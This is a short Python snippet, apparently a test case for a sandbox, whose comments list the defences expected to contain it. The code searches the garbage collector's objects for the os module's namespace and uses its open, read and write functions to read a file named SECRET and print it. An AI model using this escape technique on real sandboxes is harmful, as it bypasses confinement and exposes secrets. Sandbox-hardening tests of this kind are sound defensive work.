# Finds functions of the system among everything that the garbage collector knows.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
# with: graph
gc = importer.load_module('gc')
found = [value for value in gc.get_objects() if type(value) is dict and 'getpid' in value and 'read' in value]
found[0]['write'](1, found[0]['read'](found[0]['open'](SECRET, 0), 100))
